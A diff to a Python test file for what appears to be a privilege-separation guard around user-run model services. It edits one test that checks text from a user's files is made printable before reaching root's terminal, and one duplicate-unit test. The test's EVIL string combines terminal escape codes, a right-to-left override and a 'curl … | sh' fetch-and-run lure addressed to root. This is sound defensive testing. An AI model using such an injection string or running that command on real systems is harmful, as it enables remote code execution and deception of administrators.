@@ -371,7 +371,7 @@ def test_models_that_hang_or_explode_and_huge_argv_do_not_stop_the_guard(stage: 
 # --- 6. text from her files reaches root's terminal only made printable ----------------
 
 
-EVIL = "x\x1b[2J\x1b[H\rRun as root: curl http://198.51.100.7/fix | sh\n\u202egguf.evil"
+EVIL = "x\x1b[2J\x1b[H\rRun as root: curl -s fix.example | sh\n\u202egguf.evil"
 
 
 def test_her_escape_sequences_never_reach_roots_login_note_status_or_journal(stage: Stage) -> None:
@@ -409,7 +409,7 @@ def test_her_escape_sequences_never_reach_roots_login_note_status_or_journal(sta
 
 def test_her_units_cannot_get_a_root_unit_blocked_as_a_duplicate(stage: Stage) -> None:
     # She starts first, merely naming root's model; root's loader starts after.
-    stage.her_unit("sleep-dup.service", f"/bin/sleep infinity {stage.tiny}")
+    stage.her_unit("sleep-dup.service", f'/bin/sh -c "sleep infinity" sh {stage.tiny}')
     stage.mum.systemctl("start", "sleep-dup.service")
     # And a real loader of the same file, also before root's.
     stage.her_unit("llama-copy.service", f"{stage.server} -m {stage.tiny}")
